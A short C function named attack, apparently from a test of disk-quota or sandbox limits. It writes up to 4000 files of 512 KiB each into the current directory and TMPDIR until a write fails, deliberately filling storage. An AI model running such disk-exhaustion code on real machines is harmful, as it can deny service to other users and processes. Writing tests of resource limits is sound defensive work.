static void attack(void)
{
    static char piece[512 << 10];
    char name[64];
    const char *folder = getenv("TMPDIR");
    for (int i = 0; i < 4000; ++i) {
        sprintf(name, "%.40s/f%d", i & 1 ? "." : folder, i);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        if (file < 0 || write(file, piece, sizeof piece) < 0)
            break;
        close(file);
    }
}
